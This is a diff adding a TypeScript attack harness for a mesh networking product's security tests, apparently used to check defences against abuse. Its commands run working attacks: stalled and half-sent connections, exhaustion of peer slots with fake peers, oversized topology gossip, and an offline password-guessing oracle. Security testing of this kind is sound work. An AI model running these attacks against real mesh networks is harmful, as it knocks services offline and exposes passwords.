@@ -1,0 +1,334 @@
+/**
+ * A hostile mesh client, built from the product's own connection, handshake and codec modules so
+ * it follows protocol changes. Run inside the attacker's namespace by tests/attack/*_test.ts:
+ *
+ *   mesh_client.ts '{"cmd": ..., ...}'   → prints one JSON line with what happened
+ *
+ * Commands (every loop bounded in count and time):
+ * - join: handshake as a made-up peer, collect what the victim sends per channel, send `send`
+ *   messages (crafted by the test), hold `holdMs`.
+ * - stall: keep `count` sockets that sent `bytes` and then stall, reopening refused ones, for
+ *   `durationMs` (at most `maxOpens` sockets in all).
+ * - fill: complete `count` handshakes as distinct fake peers and hold them with heartbeats.
+ * - half: `count` fake peers each send `sendLen` bytes of a `frameLen`-byte frame and stall.
+ * - topo: one topology gossip of `entries` fake peers (the largest the limits allow when 0).
+ * - oracle: connect without knowing the password; test `guesses` offline on what the victim sent.
+ * - listen: accept TCP on `ports` for `durationMs` and count connections (dials to us).
+ */
+import { Buffer } from "node:buffer";
+import { encodeMessage, FrameReader, MAX_FRAME, type Message, Tag } from "../../net/mesh/codec.ts";
+import { ControlConnection } from "../../net/mesh/connection.ts";
+import { deriveSession, generateKeyPair } from "../../net/mesh/crypto.ts";
+import {
+  decodeHello,
+  encodeHello,
+  helloLength,
+  PROTOCOL_MAX,
+  PROTOCOL_MIN,
+} from "../../net/mesh/handshake.ts";
+import { encodeUpdate, LIMITS, type PeerEntry } from "../../net/mesh/topology.ts";
+
+// deno-lint-ignore no-explicit-any
+type Spec = Record<string, any>;
+const spec: Spec = JSON.parse(Deno.args[0]);
+const host: string = spec.host;
+const port: number = spec.port ?? 6783;
+const password: string | null = spec.password ?? null;
+const TIMING = { heartbeatMs: 1_000, deadMs: 60_000, handshakeTimeoutMs: 8_000 };
+const b64 = (b: Uint8Array) => Buffer.from(b).toString("base64");
+const unb64 = (s: string) => new Uint8Array(Buffer.from(s, "base64"));
+const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
+
+function fakeName(i: number): string {
+  return `02:ff:${
+    [(i >> 16) & 0xff, (i >> 8) & 0xff, i & 0xff, 0x99]
+      .map((b) => b.toString(16).padStart(2, "0")).join(":")
+  }`;
+}
+const fakeUid = (i: number) => (0xa0000000 + i).toString(16).padStart(16, "0");
+
+async function connect(i: number, name = fakeName(i)): Promise<ControlConnection> {
+  const tcp = await Deno.connect({ hostname: host, port });
+  return await ControlConnection.handshake(tcp, true, {
+    self: { name, nickname: `attacker-${i}`, uid: fakeUid(i), port: 6783 },
+    password,
+    timing: TIMING,
+  });
+}
+
+function close(c: { close(reason: string): void }) {
+  try {
+    c.close("attack done");
+  } catch {
+    // closed by the victim
+  }
+}
+
+interface Sent {
+  tag: "gossip" | "broadcast" | "unicast";
+  channel: string;
+  source?: string;
+  dest?: string;
+  data: string;
+}
+
+function toMessage(s: Sent): Message {
+  const data = unb64(s.data);
+  if (s.tag === "gossip") return { tag: Tag.gossip, channel: s.channel, data };
+  if (s.tag === "broadcast") {
+    return { tag: Tag.broadcast, channel: s.channel, source: s.source!, data };
+  }
+  return { tag: Tag.unicast, channel: s.channel, source: s.source!, dest: s.dest!, hops: 0, data };
+}
+
+async function join(): Promise<unknown> {
+  let c: ControlConnection;
+  try {
+    c = await connect(spec.index ?? 1, spec.name);
+  } catch (e) {
+    return { established: false, error: (e as Error).message };
+  }
+  const received: Record<string, string[]> = {};
+  let closed: string | null = null;
+  c.start({
+    onMessage(m) {
+      if ("channel" in m && "data" in m) (received[m.channel] ??= []).push(b64(m.data));
+    },
+    onClose: (r) => (closed = r),
+  });
+  await sleep(spec.waitMs ?? 1_500);
+  let sent = 0;
+  for (const s of (spec.send ?? []) as Sent[]) {
+    if (c.send(encodeMessage(toMessage(s)))) sent++;
+  }
+  const until = Date.now() + (spec.holdMs ?? 1_000);
+  while (Date.now() < until && closed === null) await sleep(100);
+  close(c);
+  return { established: true, sent, closed, received };
+}
+
+async function stall(): Promise<unknown> {
+  const bytes = unb64(spec.bytes);
+  const end = Date.now() + spec.durationMs;
+  let opened = 0, refusedFast = 0, maxHeldMs = 0;
+  const open = async (): Promise<void> => {
+    while (Date.now() < end && opened < spec.maxOpens) {
+      opened++;
+      const t0 = Date.now();
+      let conn: Deno.TcpConn;
+      try {
+        conn = await Deno.connect({ hostname: host, port });
+      } catch {
+        await sleep(200);
+        continue;
+      }
+      await conn.write(bytes).catch(() => {});
+      // Held until the victim closes it (read returns null or throws) or the attack ends.
+      const buf = new Uint8Array(4096);
+      const timer = setTimeout(() => close(conn), Math.max(0, end - Date.now()));
+      try {
+        while ((await conn.read(buf)) !== null) { /* the victim's hello */ }
+      } catch {
+        // reset
+      }
+      clearTimeout(timer);
+      close(conn);
+      const held = Date.now() - t0;
+      if (held < 200) refusedFast++;
+      maxHeldMs = Math.max(maxHeldMs, held);
+      if (held < 200) await sleep(300);
+    }
+  };
+  await Promise.all(Array.from({ length: spec.count }, open));
+  return { opened, refusedFast, maxHeldMs };
+}
+
+async function fill(): Promise<unknown> {
+  const conns: ControlConnection[] = [];
+  const reasons = new Map<string, number>();
+  const batch = 10;
+  for (let i = 0; i < spec.count; i += batch) {
+    await Promise.all(Array.from({ length: Math.min(batch, spec.count - i) }, async (_, k) => {
+      try {
+        const c = await connect(1000 + i + k);
+        c.start({ onMessage() {}, onClose: () => {} });
+        conns.push(c);
+      } catch (e) {
+        const r = (e as Error).message;
+        reasons.set(r, (reasons.get(r) ?? 0) + 1);
+      }
+    }));
+  }
+  const established = conns.length;
+  // A slot that frees up (a real peer restarting) is taken again at once: that is the attack.
+  const until = Date.now() + spec.holdMs;
+  let topUps = 0;
+  for (let i = spec.count; Date.now() < until && i < spec.count + 500; i++) {
+    const live = conns.filter((c) => !c.closed).length;
+    if (live < spec.count) {
+      try {
+        const c = await connect(1000 + i);
+        c.start({ onMessage() {}, onClose: () => {} });
+        conns.push(c);
+        topUps++;
+      } catch {
+        // refused: the limit holds
+      }
+    }
+    await sleep(100);
+  }
+  const survived = conns.filter((c) => !c.closed).length;
+  for (const c of conns) c.close("attack done");
+  return { established, survived, topUps, refused: Object.fromEntries(reasons) };
+}
+
+async function half(): Promise<unknown> {
+  const conns: ControlConnection[] = [];
+  let sent = 0, failed = 0;
+  const head = new Uint8Array(4);
+  new DataView(head.buffer).setUint32(0, spec.frameLen);
+  const chunk = new Uint8Array(1 << 20);
+  await Promise.all(Array.from({ length: spec.count }, async (_, i) => {
+    let c: ControlConnection;
+    try {
+      c = await connect(2000 + i);
+    } catch {
+      failed++;
+      return;
+    }
+    c.start({ onMessage() {}, onClose: () => {} });
+    conns.push(c);
+    try {
+      await c.conn.write(head);
+      for (let o = 0; o < spec.sendLen;) {
+        const n = await c.conn.write(chunk.subarray(0, Math.min(chunk.length, spec.sendLen - o)));
+        o += n;
+        sent += n;
+      }
+    } catch {
+      // the victim closed it: what a protected build does
+    }
+  }));
+  const until = Date.now() + spec.holdMs;
+  while (Date.now() < until) {
+    // One byte now and then keeps a "dead connection" timer from firing (as in the review).
+    for (const c of conns) if (!c.closed) await c.conn.write(new Uint8Array(1)).catch(() => {});
+    await sleep(1_000);
+  }
+  const survived = conns.filter((c) => !c.closed).length;
+  for (const c of conns) c.close("attack done");
+  return { established: conns.length, failed, sent, survived };
+}
+
+/** One topology gossip of many fake peers with maximal fields, built to the product's LIMITS. */
+async function topo(): Promise<unknown> {
+  let c: ControlConnection;
+  try {
+    c = await connect(3000);
+  } catch (e) {
+    return { established: false, error: (e as Error).message };
+  }
+  let closed: string | null = null;
+  c.start({ onMessage() {}, onClose: (r) => (closed = r) });
+  const n = spec.entries || LIMITS.peers;
+  const nick = "x".repeat(LIMITS.nickname);
+  const entries: PeerEntry[] = [];
+  for (let i = 0; i < n; i++) {
+    entries.push({
+      name: fakeName(10_000 + i),
+      nickname: nick,
+      uid: fakeUid(10_000 + i),
+      version: 1,
+      connections: [],
+    });
+  }
+  const data = encodeUpdate(entries);
+  const sent = c.send(encodeMessage({ tag: Tag.gossip, channel: "topology", data }));
+  const until = Date.now() + (spec.holdMs ?? 5_000);
+  while (Date.now() < until && closed === null) await sleep(100);
+  close(c);
+  return { established: true, sent, bytes: data.length, closed };
+}
+
+/**
+ * Connects without knowing the password, records what the victim sends before we prove anything,
+ * then tries `guesses` offline against the first frame after its hello with the product's own key
+ * schedule: a guess that opens it is an offline-guessing oracle.
+ */
+async function oracle(): Promise<unknown> {
+  const conn = await Deno.connect({ hostname: host, port });
+  const keys = generateKeyPair();
+  const hello = encodeHello({
+    minVersion: PROTOCOL_MIN,
+    maxVersion: PROTOCOL_MAX,
+    publicKey: keys.publicKey,
+  });
+  await conn.write(hello);
+  const got: Uint8Array[] = [];
+  const timer = setTimeout(() => close(conn), spec.waitMs ?? 3_000);
+  const buf = new Uint8Array(65536);
+  try {
+    for (let n; (n = await conn.read(buf)) !== null;) got.push(buf.slice(0, n));
+  } catch {
+    // closed by the timer or the victim
+  }
+  clearTimeout(timer);
+  close(conn);
+  const bytes = new Uint8Array(Buffer.concat(got));
+  let frames: Uint8Array[] = [];
+  let theirKey: Uint8Array | undefined;
+  let error = "";
+  try {
+    const end = helloLength(bytes);
+    theirKey = decodeHello(bytes.subarray(0, end)).publicKey;
+    frames = new FrameReader(MAX_FRAME).push(bytes.subarray(end));
+  } catch (e) {
+    error = (e as Error).message;
+  }
+  const opened: string[] = [];
+  if (theirKey && frames.length > 0) {
+    for (const g of spec.guesses as string[]) {
+      try {
+        deriveSession(keys, theirKey, g).opener.open(frames[0]);
+        opened.push(g);
+      } catch {
+        // wrong guess
+      }
+    }
+  }
+  return { received: bytes.length, frames: frames.length, opened, error };
+}
+
+async function listen(): Promise<unknown> {
+  const accepted: Record<string, number> = {};
+  const listeners = (spec.ports as number[]).map((p) =>
+    Deno.listen({ hostname: "0.0.0.0", port: p })
+  );
+  const loops = listeners.map(async (l, i) => {
+    try {
+      for await (const c of l) {
+        accepted[spec.ports[i]] = (accepted[spec.ports[i]] ?? 0) + 1;
+        close(c);
+      }
+    } catch {
+      // closed
+    }
+  });
+  await sleep(spec.durationMs);
+  for (const l of listeners) close(l);
+  await Promise.all(loops);
+  return { accepted };
+}
+
+const cmds: Record<string, () => Promise<unknown>> = {
+  join,
+  stall,
+  fill,
+  half,
+  topo,
+  oracle,
+  listen,
+};
+const out = await cmds[spec.cmd]();
+console.log(JSON.stringify(out));
+Deno.exit(0);
